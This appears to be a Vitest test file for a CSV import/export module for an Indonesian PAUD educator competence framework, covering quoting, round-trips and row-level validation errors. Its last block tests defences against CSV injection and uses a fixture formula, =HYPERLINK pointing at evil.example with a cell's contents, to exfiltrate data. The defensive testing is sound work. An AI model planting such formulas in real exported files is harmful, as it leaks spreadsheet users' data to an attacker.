import { describe, expect, it } from 'vitest'
import { SMALL } from '../../test/fixtures/small-framework.ts'
import { CompetenceError } from '../errors.ts'
import { validateFramework } from '../framework/validate-framework.ts'
import { PAUD_EDUCATOR_COMPETENCES } from '../seed/paud-competences.ts'
import type { Framework } from '../framework/types.ts'
import { parseFrameworkCsv, writeFrameworkCsv, type FrameworkHeader } from './framework-csv.ts'
import { parseCsv } from './rfc4180.ts'

const { competences: _c, ...SMALL_HEADER } = SMALL
const HEADER: FrameworkHeader = SMALL_HEADER
const { rubrics: _r, ...NO_RUBRICS } = SMALL
const HEAD = 'code,parent_code,level,title_id,title_en,verify,version\r\n'

function issuesOf(text: string): { path: string; rule: string; row?: number; column?: string }[] {
  try {
    parseFrameworkCsv(text, { ...HEADER, rubrics: undefined } as FrameworkHeader)
  } catch (error) {
    expect((error as CompetenceError).code).toBe('ERR_COMPETENCE_INVALID_CSV')
    return (error as CompetenceError).issues.map(({ path, rule, row, column }) => ({ path, rule, ...(row === undefined ? {} : { row }), ...(column === undefined ? {} : { column }) }))
  }
  return []
}

describe('framework CSV for administrators', () => {
  it('writes one row per node, parents first, with RFC 4180 quoting', () => {
    const csv = writeFrameworkCsv(validateFramework(SMALL))
    const lines = csv.split('\r\n')
    expect(lines[0]).toBe('code,parent_code,level,title_id,title_en,verify,version')
    expect(lines[1]).toBe('PED,,competence,Kompetensi Pedagogik,Pedagogical competence,,1.0.0')
    expect(lines[2]).toBe('PED.C,PED,sub-competence,"Merancang kegiatan, ""berdasarkan"" kurikulum","Designs activities, based on the curriculum",,1.0.0')
    expect(lines[3]).toBe('PED.C.1,PED.C,indicator,Memahami kurikulum,Understands the curriculum,true,1.1.0')
  })

  it('round-trips: parse(write(f)) = f (rubrics travel with the header, not the rows)', () => {
    expect(parseFrameworkCsv(writeFrameworkCsv(validateFramework(SMALL)), HEADER)).toEqual(SMALL)
    const seed = validateFramework(PAUD_EDUCATOR_COMPETENCES)
    const { competences: _, ...seedHeader } = PAUD_EDUCATOR_COMPETENCES
    expect(parseFrameworkCsv(writeFrameworkCsv(seed), seedHeader)).toEqual(PAUD_EDUCATOR_COMPETENCES)
  })

  it('defaults an empty version to the framework version and reads ya/tidak for verify', () => {
    const f = parseFrameworkCsv(`${HEAD}SOS,,competence,Sosial,Social,ya,\r\nSOS.A,SOS,sub-competence,A,A,tidak,1.0.0\r\n`, { ...NO_RUBRICS, competences: undefined } as unknown as FrameworkHeader)
    expect(f.competences[0]).toEqual({ code: 'SOS', version: '1.2.0', verify: true, title: { id: 'Sosial', en: 'Social' }, subCompetences: [{ code: 'SOS.A', version: '1.0.0', title: { id: 'A', en: 'A' }, indicators: [] }] })
  })

  it('reports each problem with its row number and column', () => {
    const csv = `${HEAD}PED,,competence,Pedagogik,Pedagogical,,1.0.0\r\nPED.A,PED,sub-competence,A,,maybe,1.0.0\r\nPED.A.1,PED.X,indicator,Satu,One,,1.0.0\r\nPED.A.2,PED.A,competence,Dua,Two,,1.0.0\r\nPED.A.3,PED.A,indicator,Tiga,Three,,9.0.0\r\n`
    expect(issuesOf(csv)).toEqual([
      { path: 'row 3, verify', rule: 'boolean', row: 3, column: 'verify' },
      { path: 'row 5, parent_code', rule: 'level-matches-parent', row: 5, column: 'parent_code' },
      { path: 'row 4, parent_code', rule: 'parent-exists', row: 4, column: 'parent_code' },
      { path: 'row 3, title_en', rule: 'required', row: 3, column: 'title_en' },
      { path: 'row 6, version', rule: 'version-not-after-framework', row: 6, column: 'version' },
    ])
  })

  it('reports a duplicate code on the row that repeats it', () => {
    const csv = `${HEAD}PED,,competence,P,P,,\r\nPED,,competence,P2,P2,,\r\n`
    expect(issuesOf(csv)).toEqual([{ path: 'row 3, code', rule: 'code-unique', row: 3, column: 'code' }])
  })

  it('reports a missing column, a wrong field count and CSV syntax errors', () => {
    expect(issuesOf('code,parent_code,level,title_id\r\n')).toEqual([{ path: 'row 1', rule: 'missing-column', row: 1 }])
    expect(issuesOf(`${HEAD}PED,,competence,P\r\n`)).toEqual([{ path: 'row 2', rule: 'field-count', row: 2 }])
    expect(issuesOf(`${HEAD}PED,,competence,"P,P,,\r\n`).map((i) => i.rule)).toContain('unterminated-quote')
  })

  it('reads the columns in any order', () => {
    const f = parseFrameworkCsv('title_en,title_id,level,parent_code,code\nSocial,Sosial,competence,,SOS\n', { ...NO_RUBRICS } as FrameworkHeader)
    expect(f.competences.map((c) => c.code)).toEqual(['SOS'])
  })
})

/**
 * OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is run by Excel, LibreOffice and
 * Google Sheets as a formula. The framework CSV is a round-trip format, so the quote that export
 * puts before such a cell comes off on import.
 */
describe('framework CSV and spreadsheet formulas (OWASP CSV Injection)', () => {
  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
  /** An administrator's framework whose codes and titles start formulas, or look quoted already. */
  const HOSTILE: Framework = {
    ...NO_RUBRICS,
    competences: [
      {
        code: '-3', version: '1.0.0', title: { id: FORMULA, en: '@SUM(1+1)' },
        subCompetences: [{
          code: '-3.A', version: '1.0.0', title: { id: '+62 370 123', en: '\tTabbed' },
          indicators: [
            { code: '-3.A.1', version: '1.0.0', title: { id: "'=already quoted", en: "''-1" } },
            { code: '-3.A.2', version: '1.0.0', title: { id: '-3', en: "'plain" } },
          ],
        }],
      },
      ...SMALL.competences,
    ],
  }

  it('writes every cell a spreadsheet would run with a leading single quote, codes and titles alike', () => {
    const lines = writeFrameworkCsv(validateFramework(HOSTILE)).split('\r\n')
    expect(lines.slice(1, 5)).toEqual([
      `'-3,,competence,"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")",'@SUM(1+1),,1.0.0`,
      "'-3.A,'-3,sub-competence,'+62 370 123,'\tTabbed,,1.0.0",
      "'-3.A.1,'-3.A,indicator,''=already quoted,'''-1,,1.0.0",
      "'-3.A.2,'-3.A,indicator,'-3,'plain,,1.0.0",
    ])
    // No record has a field (quoted or not) that starts a formula.
    const { records } = parseCsv(lines.join('\r\n'))
    for (const record of records) for (const field of record.fields) expect(field, field).not.toMatch(/^[=+\-@\t\r]/u)
  })

  it('round-trips a framework whose cells start formulas: parse(write(f)) = f, "-3" and "\'=x" included', () => {
    expect(parseFrameworkCsv(writeFrameworkCsv(validateFramework(HOSTILE)), HEADER)).toEqual({ ...HOSTILE, rubrics: SMALL.rubrics })
  })

  it('reads a cell as it is when the spreadsheet saved it without the quote', () => {
    const f = parseFrameworkCsv(`${HEAD}SOS,,competence,"=HYPERLINK(""x"")",-3,,\r\n`, { ...NO_RUBRICS } as FrameworkHeader)
    expect(f.competences[0]!.title).toEqual({ id: '=HYPERLINK("x")', en: '-3' })
  })
})
